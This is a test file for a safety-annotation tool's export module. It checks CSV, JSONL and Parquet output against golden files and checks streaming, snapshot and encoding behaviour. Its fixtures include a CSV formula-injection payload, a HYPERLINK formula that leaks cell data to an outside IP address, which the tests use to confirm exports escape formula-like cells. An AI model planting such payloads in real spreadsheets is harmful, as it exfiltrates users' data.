"""Export: items with verdicts and annotations, read back from JSONL, CSV and Parquet."""

from __future__ import annotations

import contextlib
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import dataio_support as ds
import pandas as pd
import pytest
import sqlalchemy as sa
from typer.testing import CliRunner

from safereview import __version__
from safereview.cli.main import app
from safereview.dataio.export import export_annotations, export_items
from safereview.dataio.importers import import_file
from safereview.db.engine import schema_revision
from safereview.workflow.principals import SystemPrincipal

SYSTEM = SystemPrincipal("test")  # the trusted caller the CLI would be

ROWS = [
    {
        "id": "a",
        "prompt": [{"modality": "image", "path": "cat.png"}, {"modality": "text", "text": 'what, "is" this?'}],
        "response": "a cat\nwith a hat",
        "verdicts": [
            {"dimension": "joint", "label": "borderline", "judge_id": "j1", "probability": 0.5},
            {"dimension": "joint", "label": "unsafe", "judge_id": "j2"},
        ],
        "annotations": [
            {
                "annotator": "amy",
                "labels": {"joint": "safe"},
                "blind_labels": {"joint": "unsafe"},
                "verdict_action": "override",
                "time_spent_s": 4.0,
                "categories": ["C3"],
            },
            {"annotator": "bo", "labels": {"joint": "borderline", "text": "safe"}},
        ],
    },
    {"id": "b", "prompt": "plain", "verdict.text": "safe", "judge_id": "j1"},
]


def _read(path: Path, fmt: str) -> pd.DataFrame:
    if fmt == "parquet":
        return pd.read_parquet(path)
    if fmt == "csv":
        return pd.read_csv(path, keep_default_na=False, na_values=[""], dtype={"schema_revision": str})
    return pd.read_json(path, lines=True, dtype={"schema_revision": str})


@pytest.fixture
def filled(engine: sa.Engine, tmp_path: Path) -> sa.Engine:
    d = tmp_path / "in"
    ds.png(d / "cat.png")
    f = ds.write_jsonl(d / "items.jsonl", ROWS)
    assert import_file(engine, f, collection="exp", taxonomy="vlsu", media_root=tmp_path / "root", actor=SYSTEM).ok
    other = ds.write_jsonl(d / "other.jsonl", [{"id": "z", "prompt": "elsewhere"}])
    assert import_file(
        engine, other, collection="other", taxonomy="vlsu", media_root=tmp_path / "root", actor=SYSTEM
    ).ok
    return engine


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_export_items_round_trip(filled: sa.Engine, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"items.{fmt}"
    res = export_items(filled, out, fmt, collections=["exp"])
    assert res.rows == 2
    df = _read(out, fmt).set_index("external_id")
    assert list(df.index) == ["a", "b"]
    a, b = df.loc["a"], df.loc["b"]
    assert a["prompt_text"] == 'what, "is" this?' and a["response_text"] == "a cat\nwith a hat"
    assert a["prompt_media"].startswith("image:") and len(a["prompt_media"]) == len("image:") + 64
    assert a["verdict.j1.joint"] == "borderline" and a["verdict.j1.joint.prob"] == 0.5
    assert a["verdict.j2.joint"] == "unsafe" and pd.isna(a["verdict.j2.joint.prob"])
    assert pd.isna(b["verdict.j1.joint"]) and b["verdict.j1.text"] == "safe"
    assert a["judge_ids"] == "j1;j2" and b["judge_ids"] == "j1"
    assert a["import_source"].endswith("items.jsonl") and a["import_format"] == "generic-jsonl"
    assert a["safereview_version"] == __version__
    assert a["schema_revision"] == schema_revision(filled)
    assert a["exported_at"] and a["collection"] == "exp"
    created = datetime.fromisoformat(str(a["created_at"]))
    assert created.utcoffset() == timedelta(0) and abs(datetime.now(UTC) - created) < timedelta(hours=1)
    assert not list(tmp_path.glob(".items*"))  # no temporary file left behind


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_export_annotations_round_trip(filled: sa.Engine, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"ann.{fmt}"
    res = export_annotations(filled, out, fmt)
    assert res.rows == 2
    df = _read(out, fmt).set_index("annotator")
    amy, bo = df.loc["amy"], df.loc["bo"]
    assert amy["label.joint"] == "safe" and amy["blind.joint"] == "unsafe"
    assert amy["verdict_action"] == "override" and amy["time_spent_s"] == 4.0
    assert amy["categories"] == "Drug Abuse" and amy["source"] == "import"
    assert bo["label.text"] == "safe" and pd.isna(bo["blind.joint"]) and pd.isna(amy["label.text"])
    assert (amy["external_id"], amy["collection"]) == ("a", "exp")
    assert amy["import_source"].endswith("items.jsonl")


def test_cli_export_and_unknown_collection(filled: sa.Engine, db_url: str, tmp_path: Path) -> None:
    out = tmp_path / "x.parquet"
    r = CliRunner().invoke(app, ["export", "items", "--out", str(out), "--db", db_url])
    assert r.exit_code == 0, r.output
    assert sorted(pd.read_parquet(out)["external_id"]) == ["a", "b", "z"]
    r = CliRunner().invoke(app, ["export", "annotations", "-o", str(tmp_path / "a.csv"), "-c", "nope", "--db", db_url])
    assert r.exit_code == 1 and "no collection named nope" in r.output
    r = CliRunner().invoke(app, ["export", "items", "-o", str(tmp_path / "a.txt"), "--db", db_url])
    assert r.exit_code == 2


HOSTILE = '=HYPERLINK("https://203.0.113.9/?"&A1, "open")'


def test_csv_cells_never_run_as_spreadsheet_formulas(engine: sa.Engine, tmp_path: Path) -> None:
    """A model output or a rationale that starts like a formula is text in every CSV (items,
    annotations, gold); JSONL keeps it exactly."""
    from sqlmodel import Session

    from safereview.agreement.gold import create_snapshot, write

    rows = [
        {
            "id": "@evil",
            "prompt": "+SUM(1,2)",
            "response": HOSTILE,
            "annotations": [{"annotator": "amy", "labels": {"joint": "unsafe"}, "rationale": "-2+3"}],
        }
    ]
    f = ds.write_jsonl(tmp_path / "h.jsonl", rows)
    assert import_file(engine, f, collection="h", taxonomy="vlsu", media_root=tmp_path / "root", actor=SYSTEM).ok
    export_items(engine, tmp_path / "i.csv", "csv", collections=["h"])
    export_annotations(engine, tmp_path / "a.csv", "csv", collections=["h"])
    export_items(engine, tmp_path / "i.jsonl", "jsonl", collections=["h"])
    with Session(engine) as s:
        snap, table = create_snapshot(s, SYSTEM, ["h"])
        write(table, tmp_path / "g.csv", "csv", snap)
    items = pd.read_csv(tmp_path / "i.csv", dtype=str, keep_default_na=False)
    anns = pd.read_csv(tmp_path / "a.csv", dtype=str, keep_default_na=False)
    gold = pd.read_csv(tmp_path / "g.csv", dtype=str, keep_default_na=False)
    assert items.loc[0, "response_text"] == "'" + HOSTILE and items.loc[0, "prompt_text"] == "'+SUM(1,2)"
    assert items.loc[0, "external_id"] == "'@evil" and anns.loc[0, "rationale"] == "'-2+3"
    assert gold.loc[0, "external_id"] == "'@evil"
    for frame in (items, anns, gold):  # no text cell starts a formula
        assert not frame.map(lambda v: str(v)[:1] in ("=", "+", "-", "@")).to_numpy().any()
    exact = pd.read_json(tmp_path / "i.jsonl", lines=True)
    assert exact.loc[0, "response_text"] == HOSTILE  # JSONL carries the text as it is


def test_raw_csv_keeps_formulas_for_machines_and_jsonl_escapes_line_separators(
    engine: sa.Engine, tmp_path: Path
) -> None:
    rows = [{"id": "a", "prompt": "=1+1", "response": "one\u2028two\u2029three\u0085four"}]
    f = ds.write_jsonl(tmp_path / "h.jsonl", rows)
    assert import_file(engine, f, collection="h", taxonomy="vlsu", media_root=tmp_path / "root", actor=SYSTEM).ok
    export_items(engine, tmp_path / "raw.csv", "csv", collections=["h"], raw_csv=True)
    assert pd.read_csv(tmp_path / "raw.csv", dtype=str).loc[0, "prompt_text"] == "=1+1"
    export_items(engine, tmp_path / "i.jsonl", "jsonl", collections=["h"])
    text = (tmp_path / "i.jsonl").read_text(encoding="utf-8")
    assert len(text.splitlines()) == 1  # one row stays one line for every reader
    assert "\\u2028" in text and "\u2028" not in text
    assert pd.read_json(tmp_path / "i.jsonl", lines=True).loc[0, "response_text"] == rows[0]["response"]


# ---------------------------------------------------------------------------------------
# Golden files: the exact bytes of every export format for a fixed database
# ---------------------------------------------------------------------------------------
#
# tests/data/export_golden/<backend>/ holds what the export wrote for GOLDEN_DB before it
# was made streaming (commit 5f7ad0a, one query and one in-memory table per export); the
# streaming export must write the same bytes (CSV, JSONL) and the same table (Parquet:
# schema and values; the file itself has one row group per chunk). JSON columns are passed
# through as stored, which is not the same text on SQLite and PostgreSQL, hence one folder
# per back end. Regenerate only on purpose (a deliberate change of the output):
# SAFEREVIEW_REGEN_GOLDEN=1 pytest tests/test_dataio_export.py -k golden

GOLDEN_DIR = Path(__file__).parent / "data" / "export_golden"
GOLDEN_PROVENANCE = {
    "exported_at": "2025-01-02T03:04:05.678901+00:00",
    "safereview_version": "0.0.0+golden",
    "schema_revision": "golden",
}
T1 = datetime(2024, 5, 6, 7, 8, 9, 123456, tzinfo=UTC)
T2 = datetime(2024, 5, 7, 0, 0, 0, tzinfo=UTC)  # no microseconds: isoformat drops them
SHA = ["ab" * 32, "cd" * 32, "ef" * 32]


def _txt(text: str) -> dict:
    return {"modality": "text", "text": text}


def golden_db(engine: sa.Engine) -> None:
    """Two collections with interleaved item ids (export order is collection id, then item
    id), one empty collection, text/image/audio/video parts, several judges (one that never
    gives a probability, one whose id has a dot), an unparseable verdict, annotations with
    blind labels, formula-like cells, unicode and the line separators U+2028/U+2029/U+0085."""
    from safereview.db.models import Annotation, Collection, ImportBatch, Item, Taxonomy, User, Verdict

    def t(model: type) -> sa.Table:
        return model.__table__  # type: ignore[attr-defined]

    item_defaults = {
        "task_type": "image-text",
        "category": "C9",
        "subcategory": "",
        "model": "m-1",
        "input_modalities": "image+text",
        "output_modalities": "text",
        "refused": False,
        "meta": {},
        "priority": 0.0,
        "slots_taken": 0,
        "import_batch_id": 1,
        "created_at": T1,
    }
    items = [
        {
            "id": 1,
            "collection_id": 1,
            "external_id": "a",
            "prompt": [{"modality": "image", "media": SHA[0], "name": "cat.png"}, _txt('what, "is" this?')],
            "response": [_txt("a cat\nwith a hat")],
            "meta": {"source": "ünïcode", "n": 1, "nested": {"k": [1, 2.5, None]}},
            "content_hash": "h1",
        },
        {
            "id": 2,
            "collection_id": 2,
            "external_id": "b\u2028line",
            "input_modalities": "text",
            "prompt": [_txt('=HYPERLINK("https://203.0.113.9/?"&A1, "open")')],
            "response": [_txt("one\u2028two\u2029three\u0085four")],
            "content_hash": "h2",
            "import_batch_id": 2,
            "created_at": T2,
        },
        {
            "id": 3,
            "collection_id": 1,
            "external_id": "c",
            "category": "",
            "prompt": [_txt("+SUM(1,2)"), _txt("second part")],
            "response": [],
            "refused": True,
            "content_hash": "h3",
            "import_batch_id": None,
            "priority": 2.5,
        },
        {
            "id": 4,
            "collection_id": 1,
            "external_id": "@evil",
            "category": "@cat",
            "subcategory": "-sub",
            "model": "模型",
            "output_modalities": "audio+image+text",
            "prompt": [_txt("日本語 émoji 🙂")],
            "response": [
                _txt("-2+3"),
                {"modality": "image", "media": SHA[1], "name": "x.png"},
                {"modality": "audio", "media": SHA[2], "name": "y.wav"},
            ],
            "content_hash": "h4",
            "priority": 1.25,
            "slots_taken": 2,
            "created_at": T2,
        },
        {
            "id": 5,
            "collection_id": 2,
            "external_id": "e",
            "prompt": [{"modality": "text"}, _txt("\ttab first")],
            "response": [{"modality": "video", "media": SHA[2], "name": "v.mp4"}],
            "content_hash": "h5",
            "import_batch_id": 2,
        },
        {
            "id": 6,
            "collection_id": 1,
            "external_id": "f",
            "prompt": [_txt("\rcarriage")],
            "response": [_txt("")],
            "meta": {"quote": 'a "b" c', "list": ["x"]},
            "content_hash": "h6",
            "priority": -1.0,
        },
    ]
    verdict_defaults = {"status": "ok", "probability": None, "judge_version": "", "created_at": T1}
    verdicts = [
        {"id": 1, "item_id": 1, "judge_id": "j1", "dimension": "joint", "label": "borderline", "probability": 0.5},
        {"id": 2, "item_id": 1, "judge_id": "j2", "dimension": "joint", "label": "unsafe"},
        {"id": 3, "item_id": 1, "judge_id": "j1", "dimension": "text", "label": "safe", "probability": 0.25},
        {"id": 4, "item_id": 2, "judge_id": "j1", "dimension": "joint", "label": None, "status": "unparseable"},
        {"id": 5, "item_id": 2, "judge_id": "judge.x", "dimension": "image", "label": "safe", "probability": 1.0},
        {"id": 6, "item_id": 4, "judge_id": "j2", "dimension": "joint", "label": "safe"},
        {"id": 7, "item_id": 4, "judge_id": "j1", "dimension": "joint", "label": "unsafe", "probability": 0.9999999},
        {"id": 8, "item_id": 5, "judge_id": "j1", "dimension": "text", "label": "unsafe", "status": "rule"},
        {"id": 9, "item_id": 6, "judge_id": "j1", "dimension": "joint", "label": None, "status": "error"},
    ]
    ann_defaults = {
        "blind_labels": None,
        "categories": [],
        "rationale": "",
        "flagged": False,
        "verdict_action": None,
        "verdict_judge_id": None,
        "time_spent_s": None,
        "source": "app",
        "import_batch_id": None,
        "version": 1,
        "created_at": T1,
        "updated_at": T1,
    }
    annotations = [
        {
            "id": 1,
            "item_id": 1,
            "user_id": 1,
            "labels": {"joint": "safe"},
            "blind_labels": {"joint": "unsafe"},
            "categories": ["C3", "C1"],
            "rationale": '=HYPERLINK("x")',
            "flagged": True,
            "verdict_action": "override",
            "verdict_judge_id": "j1",
            "time_spent_s": 4.5,
            "source": "import",
            "import_batch_id": 1,
            "version": 2,
            "updated_at": T2,
        },
        {
            "id": 2,
            "item_id": 1,
            "user_id": 2,
            "labels": {"joint": "borderline", "text": "safe"},
            "rationale": "a\u2028b",
        },
        {"id": 3, "item_id": 2, "user_id": 3, "labels": {"image": "unsafe"}, "blind_labels": {}, "categories": ["C9"]},
        {"id": 4, "item_id": 4, "user_id": 2, "labels": {}, "rationale": "-2+3 ünï", "time_spent_s": 0.1},
        {
            "id": 5,
            "item_id": 6,
            "user_id": 3,
            "labels": {"joint": "safe"},
            "verdict_action": "confirm",
            "verdict_judge_id": "j1",
            "created_at": T2,
        },
    ]
    with engine.begin() as conn:
        conn.execute(t(Taxonomy).insert(), [{"id": 1, "name": "golden", "version": "1", "spec": {}, "created_at": T1}])
        conn.execute(
            t(Collection).insert(),
            [
                {
                    "id": cid,
                    "name": name,
                    "taxonomy_id": 1,
                    "description": "",
                    "overlap_target": 2,
                    "blind": True,
                    "audit_share": 0.3,
                    "reveal_reason": "required",
                    "protect_media": True,
                    "break_minutes": 45,
                    "break_unsafe_items": 40,
                    "archived": False,
                    "created_at": T1,
                }
                for cid, name in ((1, "zeta / run"), (2, "alpha / ünï"), (3, "empty"))
            ],
        )
        conn.execute(
            t(ImportBatch).insert().values(source_sha256="0" * 64, created_at=T1),
            [
                {"id": 1, "source": "runs/items.jsonl", "format": "generic-jsonl", "collection_id": 1},
                {"id": 2, "source": "=vlsu.csv", "format": "vlsu", "collection_id": 2},
            ],
        )
        conn.execute(
            t(User).insert(),
            [
                {"id": uid, "username": name, "password_hash": "!", "role": role, "created_at": T1}
                for uid, name, role in ((1, "zed", "annotator"), (2, "amy", "lead"), (3, "bo", "annotator"))
            ],
        )
        conn.execute(t(Item).insert(), [{**item_defaults, **i} for i in items])
        conn.execute(t(Verdict).insert(), [{**verdict_defaults, **v} for v in verdicts])
        conn.execute(t(Annotation).insert(), [{**ann_defaults, **a} for a in annotations])


GOLDEN_EXPORTS = {  # file stem -> (export function, collections)
    "items": (export_items, None),
    "items-alpha": (export_items, ["alpha / ünï"]),
    "items-empty": (export_items, ["empty"]),
    "annotations": (export_annotations, None),
    "annotations-empty": (export_annotations, ["empty"]),
}
# Parquet columns that hold no value at all in the export: the old writer took their type
# from the data and made them strings; the streaming writer fixes the schema before the
# first row, so they keep their own type. The values (all missing) are the same, and CSV
# and JSONL are byte for byte the same.
TYPED_WHEN_EMPTY = {
    "items": {"verdict.j2.joint.prob": "double"},
    "items-alpha": {"verdict.j1.joint.prob": "double", "verdict.j1.text.prob": "double"},
}


@pytest.fixture
def golden(engine: sa.Engine, monkeypatch: pytest.MonkeyPatch) -> tuple[sa.Engine, Path]:
    import safereview.dataio.export as export_mod

    golden_db(engine)
    monkeypatch.setattr(export_mod, "_provenance", lambda _engine: dict(GOLDEN_PROVENANCE))
    return engine, GOLDEN_DIR / engine.dialect.name


@pytest.mark.parametrize("stem", sorted(GOLDEN_EXPORTS))
@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_export_matches_golden_files(golden: tuple[sa.Engine, Path], tmp_path: Path, fmt: str, stem: str) -> None:
    import os

    import pyarrow as pa
    import pyarrow.parquet as pq

    engine, folder = golden
    fn, collections = GOLDEN_EXPORTS[stem]
    out = tmp_path / f"{stem}.{fmt}"
    fn(engine, out, fmt, collections=collections)
    expected = folder / f"{stem}.{fmt}"
    if os.environ.get("SAFEREVIEW_REGEN_GOLDEN") == "1":
        expected.parent.mkdir(parents=True, exist_ok=True)
        expected.write_bytes(out.read_bytes())
    if fmt != "parquet":
        assert out.read_bytes() == expected.read_bytes()
        return
    got, want = pq.read_table(out), pq.read_table(expected)
    assert got.column_names == want.column_names
    if stem.endswith("-empty"):  # no rows: the old writer typed every column as string
        assert want.num_rows == got.num_rows == 0
        assert set(want.schema.types) == {pa.string()}
        full = pq.read_schema(folder / f"{stem.removesuffix('-empty')}.parquet")
        assert [(f.name, f.type) for f in got.schema] == [(f.name, full.field(f.name).type) for f in got.schema]
        return
    retyped = {f.name: str(f.type) for f in got.schema if f.type != want.schema.field(f.name).type}
    assert retyped == TYPED_WHEN_EMPTY.get(stem, {})
    for name in retyped:
        assert want.schema.field(name).type == pa.string() and want.column(name).null_count == want.num_rows
        assert got.column(name).null_count == got.num_rows
        want = want.set_column(want.column_names.index(name), got.schema.field(name), got.column(name))
    assert got.schema.equals(want.schema, check_metadata=True), f"{got.schema}\n!=\n{want.schema}"
    assert got.equals(want)


@pytest.mark.parametrize("mode", ["chunks of 1", "chunks of 2", "row by row"])
@pytest.mark.parametrize("stem", ["items", "annotations"])
def test_chunking_and_the_row_by_row_path_write_the_same(
    golden: tuple[sa.Engine, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mode: str, stem: str
) -> None:
    """Small chunks (a chunk where a column is all NULL, verdicts of another collection's
    items inside a chunk's id range) and the row-by-row decoding of parts and labels give
    the golden bytes; the Parquet file has one row group per chunk, with one schema."""
    import pyarrow.parquet as pq

    import safereview.dataio.export as export_mod

    engine, folder = golden
    fn = GOLDEN_EXPORTS[stem][0]
    with monkeypatch.context() as m:
        if mode == "row by row":
            m.setattr(export_mod, "_read_ndjson", lambda *_a: None)
        else:
            m.setattr(export_mod, "CHUNK_ROWS", int(mode.split()[-1]))
        for fmt in ("jsonl", "csv"):
            fn(engine, tmp_path / f"{stem}.{fmt}", fmt)
            assert (tmp_path / f"{stem}.{fmt}").read_bytes() == (folder / f"{stem}.{fmt}").read_bytes()
        res = fn(engine, tmp_path / f"{stem}.parquet", "parquet")
    fn(engine, tmp_path / "one.parquet", "parquet")
    got, want = pq.ParquetFile(tmp_path / f"{stem}.parquet"), pq.ParquetFile(tmp_path / "one.parquet")
    assert got.schema_arrow.equals(want.schema_arrow) and got.read().equals(want.read())
    per_collection = {"items": [4, 2], "annotations": [4, 1]}[stem]  # rows of zeta / run, alpha / ünï
    size = {"chunks of 1": 1, "chunks of 2": 2}.get(mode, 50_000)
    assert got.num_row_groups == sum(-(-n // size) for n in per_collection)
    assert res.rows == sum(per_collection) and res.columns == want.schema_arrow.names


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # the ADBC reader is SQLite's
@pytest.mark.parametrize("size", [1, 2, 50_000])
@pytest.mark.parametrize("stem", ["items", "annotations"])
def test_sqlite_reads_through_adbc_as_through_the_sqlite3_cursor(
    golden: tuple[sa.Engine, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, stem: str, size: int
) -> None:
    """On SQLite the export reads through ADBC's Arrow driver (windows of rows, columns cast
    to their types: a window where a text column is all NULL comes back as int64 nulls),
    and writes what the ``sqlite3`` cursor path writes, byte for byte, in every format."""
    import safereview.dataio.export as export_mod

    engine, folder = golden
    assert engine.dialect.name == "sqlite"
    fn = GOLDEN_EXPORTS[stem][0]
    monkeypatch.setattr(export_mod, "CHUNK_ROWS", size)
    calls = []
    arrow_table = export_mod._Reader._arrow_table
    monkeypatch.setattr(export_mod._Reader, "_arrow_table", lambda self, *a: calls.append(1) or arrow_table(self, *a))
    for fmt in ("jsonl", "csv", "parquet"):
        fn(engine, tmp_path / f"adbc.{fmt}", fmt)
        assert calls, "the export did not read through ADBC"
        calls.clear()
        with monkeypatch.context() as m:
            m.setattr(export_mod, "_arrow_connection", lambda _conn: contextlib.nullcontext(None))
            fn(engine, tmp_path / f"cursor.{fmt}", fmt)
        assert not calls
        assert (tmp_path / f"adbc.{fmt}").read_bytes() == (tmp_path / f"cursor.{fmt}").read_bytes()
        if fmt != "parquet":
            assert (tmp_path / f"adbc.{fmt}").read_bytes() == (folder / f"{stem}.{fmt}").read_bytes()


@pytest.mark.parametrize("stem", ["items", "annotations"])
def test_an_export_sees_one_snapshot_while_others_write(
    golden: tuple[sa.Engine, Path], db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, stem: str
) -> None:
    """Rows changed and added by another connection after the export's first chunk are not in
    the file: every read (on SQLite through the ADBC connection) is in one snapshot."""
    import safereview.dataio.export as export_mod
    from safereview.db.engine import make_engine

    engine, folder = golden
    monkeypatch.setattr(export_mod, "CHUNK_ROWS", 1)
    writer = make_engine(db_url)
    kind = export_mod._ItemExport if stem == "items" else export_mod._AnnotationExport
    table = kind.table
    wrote = []

    def write_after_first_chunk(self: object, chunk: object) -> object:
        if not wrote:
            with writer.begin() as conn:
                conn.execute(sa.text("UPDATE item SET model = 'changed', external_id = external_id || '!'"))
                conn.execute(sa.text("UPDATE annotation SET rationale = 'changed'"))
                conn.execute(sa.text("DELETE FROM verdict"))
            wrote.append(1)
        return table(self, chunk)

    monkeypatch.setattr(kind, "table", write_after_first_chunk)
    GOLDEN_EXPORTS[stem][0](engine, tmp_path / "out.jsonl", "jsonl")
    writer.dispose()
    assert wrote
    assert (tmp_path / "out.jsonl").read_bytes() == (folder / f"{stem}.jsonl").read_bytes()


def test_sqlite_file_names_that_need_quoting_and_text_that_is_not_utf8(tmp_path: Path) -> None:
    """The ADBC connection opens a database whose path holds URI characters (space, #, %, &, =),
    and text that is not UTF-8 fails the export with a clear error and no file, as the
    ``sqlite3`` driver refuses to decode it."""
    from safereview.db.engine import init_db

    folder = tmp_path / "a b#c%d&e=f"
    folder.mkdir()
    engine = init_db(f"sqlite:///{folder / 'x.db'}")
    assert engine.url.database == str(folder / "x.db")
    ds.png(tmp_path / "cat.png")
    f = ds.write_jsonl(tmp_path / "rows.jsonl", ROWS)
    assert import_file(engine, f, collection="q", taxonomy="vlsu", media_root=tmp_path / "root", actor=SYSTEM).ok
    assert export_items(engine, tmp_path / "ok.jsonl", "jsonl").rows == 2
    with engine.begin() as conn:
        conn.execute(sa.text("UPDATE item SET model = CAST(x'61ff62' AS TEXT) WHERE external_id = 'b'"))
    with pytest.raises(ValueError, match="column model: stored text is not valid UTF-8"):
        export_items(engine, tmp_path / "bad.jsonl", "jsonl")
    assert not (tmp_path / "bad.jsonl").exists()
    engine.dispose()


@pytest.mark.parametrize("db_url", [pytest.param("postgres", marks=pytest.mark.postgres)], indirect=True)
def test_postgres_reads_through_adbc_with_the_engines_url(golden: tuple[sa.Engine, Path], tmp_path: Path) -> None:
    """On PostgreSQL the export opens its ADBC connection with the engine's connection
    parameters: a password with a space and URI characters (the test server trusts any
    password, but libpq refuses a connection string it cannot parse) and the URL's options
    (the test's search_path) reach libpq intact, and the file is the golden one."""
    from safereview.db.engine import make_engine

    engine, folder = golden
    url = engine.url.set(password="p w@ss:w/rd?#%&=")
    other = make_engine(url.render_as_string(hide_password=False))
    assert other.url.password == "p w@ss:w/rd?#%&="
    export_items(other, tmp_path / "items.jsonl", "jsonl")
    other.dispose()
    assert (tmp_path / "items.jsonl").read_bytes() == (folder / "items.jsonl").read_bytes()


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # SQLite keeps times as text
def test_sqlite_times_stored_by_another_writer_export_as_the_orm_reads_them(
    golden: tuple[sa.Engine, Path], tmp_path: Path
) -> None:
    """A time another program stored in another text form (ISO with "T", an offset, no
    microseconds) is exported as the ORM reads it, in UTC, in both exports; text that is no
    time stops the export, naming the column, and leaves no file."""
    import json

    from sqlmodel import Session, select

    from safereview.db.models import Annotation, Item

    engine, _ = golden
    with engine.begin() as conn:
        item_id, ann_id = conn.execute(
            sa.text("SELECT a.item_id, a.id FROM annotation a ORDER BY a.item_id, a.id LIMIT 1")
        ).one()
        conn.execute(sa.text("UPDATE item SET created_at = '2024-05-07T01:02:03+02:00' WHERE id = :i"), {"i": item_id})
        conn.execute(sa.text("UPDATE annotation SET updated_at = '2024-05-07 01:02' WHERE id = :a"), {"a": ann_id})
    with Session(engine) as s:
        item_time = s.exec(select(Item.created_at).where(Item.id == item_id)).one().isoformat()
        ann_time = s.exec(select(Annotation.updated_at).where(Annotation.id == ann_id)).one().isoformat()
    assert (item_time, ann_time) == ("2024-05-06T23:02:03+00:00", "2024-05-07T01:02:00+00:00")
    export_items(engine, tmp_path / "i.jsonl", "jsonl")
    export_annotations(engine, tmp_path / "a.jsonl", "jsonl")
    items = [json.loads(line) for line in (tmp_path / "i.jsonl").read_text().splitlines()]
    anns = [json.loads(line) for line in (tmp_path / "a.jsonl").read_text().splitlines()]
    assert [r["created_at"] for r in items if r["item_id"] == item_id] == [item_time]
    assert ann_time in [r["updated_at"] for r in anns if r["item_id"] == item_id]
    with engine.begin() as conn:
        conn.execute(sa.text("UPDATE item SET created_at = 'yesterday' WHERE id = :i"), {"i": item_id})
    with pytest.raises(ValueError, match="column created_at: stored text 'yesterday' is not a time"):
        export_items(engine, tmp_path / "bad.csv", "csv")
    assert not (tmp_path / "bad.csv").exists()


@pytest.mark.parametrize("size", [1, 50_000])
def test_annotations_come_by_item_then_annotator_name_whatever_the_user_ids(
    engine: sa.Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, size: int
) -> None:
    """The export joins the annotators itself and sorts by item, then annotator name: users
    created in reverse order of their names (higher id, earlier name) still come first by
    name, with their own role, on items interleaved with another collection's."""
    import safereview.dataio.export as export_mod

    monkeypatch.setattr(export_mod, "CHUNK_ROWS", size)
    names = ["zed", "mia", "amy"]  # created in this order: zed has the lowest user id
    rows = [
        {"id": f"x{k}", "prompt": "p", "annotations": [{"annotator": n, "labels": {"joint": "safe"}} for n in names]}
        for k in range(3)
    ]
    other = [
        {"id": f"o{k}", "prompt": "q", "annotations": [{"annotator": "bob", "labels": {"joint": "unsafe"}}]}
        for k in range(3)
    ]
    for k in range(3):  # interleave the two collections' item ids
        for coll, batch in (("main", rows[k : k + 1]), ("other", other[k : k + 1])):
            f = ds.write_jsonl(tmp_path / f"{coll}{k}.jsonl", batch)
            rep = import_file(engine, f, collection=coll, taxonomy="vlsu", media_root=tmp_path / "root", actor=SYSTEM)
            assert rep.ok
    with engine.begin() as conn:
        conn.execute(sa.text("UPDATE \"user\" SET role = 'lead' WHERE username = 'mia'"))
    export_annotations(engine, tmp_path / "a.jsonl", "jsonl", collections=["main"])
    got = [json.loads(line) for line in (tmp_path / "a.jsonl").read_text().splitlines()]
    assert [(r["external_id"], r["annotator"]) for r in got] == [(f"x{k}", n) for k in range(3) for n in sorted(names)]
    assert {r["annotator"]: r["annotator_role"] for r in got}["mia"] == "lead"
    assert {r["annotator_role"] for r in got if r["annotator"] != "mia"} == {"annotator"}


def test_annotation_windows_read_no_more_items_than_annotations(
    engine: sa.Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A window holds about ``CHUNK_ROWS`` annotations, and only their items are read, however
    many of the collection's items have none: memory stays bounded."""
    import safereview.dataio.export as export_mod

    rows = [{"id": f"i{k}", "prompt": "p"} for k in range(40)]
    rows[17]["annotations"] = [{"annotator": "amy", "labels": {"joint": "safe"}}]
    rows[30]["annotations"] = [{"annotator": "amy", "labels": {"joint": "unsafe"}}]
    f = ds.write_jsonl(tmp_path / "sparse.jsonl", rows)
    assert import_file(engine, f, collection="s", taxonomy="vlsu", media_root=tmp_path / "root", actor=SYSTEM).ok
    monkeypatch.setattr(export_mod, "CHUNK_ROWS", 1)
    read: list[int] = []
    arrays = export_mod._Reader.arrays

    def counted(self: object, sql: str, params: dict, columns: tuple) -> dict:
        out = arrays(self, sql, params, columns)  # type: ignore[arg-type]
        read.append(len(next(iter(out.values()))))
        return out

    monkeypatch.setattr(export_mod._Reader, "arrays", counted)
    assert export_annotations(engine, tmp_path / "a.jsonl", "jsonl").rows == 2
    assert read and max(read[1:]) <= 1  # read[0]: the users


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_sqlite_export_runs_within_a_bounded_address_space(golden: tuple[sa.Engine, Path], tmp_path: Path) -> None:
    """ADBC's SQLite driver sets aside 8 bytes per row of its batch for each column: the
    export bounds the batch (a batch of 2^30 rows asked for tens of GB and crashed the
    process under a 8 GB limit). A child process limited to 4 GB of address space exports."""
    import subprocess
    import sys

    engine, _ = golden
    code = (
        "import resource, sys\n"
        "resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))\n"
        "from safereview.db.engine import make_engine\n"
        "from safereview.dataio.export import export_items, export_annotations\n"
        "e = make_engine(sys.argv[1])\n"
        "print(export_items(e, sys.argv[2] + '/i.jsonl', 'jsonl').rows,"
        " export_annotations(e, sys.argv[2] + '/a.jsonl', 'jsonl').rows)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(engine.url), str(tmp_path)], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.split() == ["6", "5"]


def test_export_schema_does_not_depend_on_the_rows(golden: tuple[sa.Engine, Path], tmp_path: Path) -> None:
    """The Parquet schema is fixed before the first row: an empty export and one where a
    column holds no value have each column's own type."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    engine, _ = golden
    export_items(engine, tmp_path / "all.parquet", collections=["zeta / run", "alpha / ünï"])
    export_items(engine, tmp_path / "none.parquet", collections=["empty"])
    export_items(engine, tmp_path / "nothing.parquet", collections=[])
